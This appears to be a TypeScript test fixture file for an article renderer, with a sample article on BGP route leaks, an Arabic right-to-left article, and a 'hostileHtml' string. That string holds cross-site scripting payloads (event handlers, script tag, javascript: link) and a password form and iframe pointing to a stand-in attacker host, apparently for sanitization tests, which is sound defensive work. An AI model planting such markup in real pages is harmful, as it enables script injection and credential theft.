import type { Article } from './ArticleBody.tsx';

/** Everything that an article may contain. */
export const fullArticle: Article = {
  title: 'Route leaks and how they spread',
  published: new Date('2026-01-12T09:00:00Z'),
  html: `
<p>A leak is where a network passes on a route to a neighbor that should not have had it. See <a href="/as/64512">AS64512</a>
and <a href="https://www.rfc-editor.org/rfc/rfc7908">RFC 7908</a>.</p>
<h2>Types</h2>
<ul><li>from provider to provider</li><li>from peer to peer</li></ul>
<table><caption>Types of RFC 7908</caption><thead><tr><th>Type</th><th>From</th><th>To</th></tr></thead>
<tbody><tr><td>1</td><td>provider</td><td>provider</td></tr><tr><td>2</td><td>peer</td><td>peer</td></tr></tbody></table>
<h3>Example</h3>
<pre><code>show ip bgp 10.0.0.0/16
  64601 64512 64700 i</code></pre>
<blockquote><p>Be liberal in what you accept.</p></blockquote>
<h3>Example</h3>
<ol><li>Filter by <code>ROA</code>.</li><li>Filter by path.</li></ol>`,
};

export const rightToLeftArticle: Article = {
  title: 'تسرب المسارات',
  published: null,
  html: '<h2>ما هو التسرب؟</h2><p>شبكة تمرر مسارًا إلى جار لم يكن ينبغي أن يحصل عليه.</p>',
};

/** HTML that should never be written, but may be. */
export const hostileHtml = `
<h2 onclick="steal()">Title</h2>
<img src="x" onerror="document.body.dataset.stolen = 'yes'">
<script>document.body.dataset.stolen = 'yes'</script>
<a href="javascript:document.body.dataset.stolen='yes'">press</a>
<style>body { display: none }</style>
<p style="position:fixed;inset:0" class="cover">words</p>
<form action="https://thief.example"><input name="password"></form>
<iframe src="https://thief.example"></iframe>`;
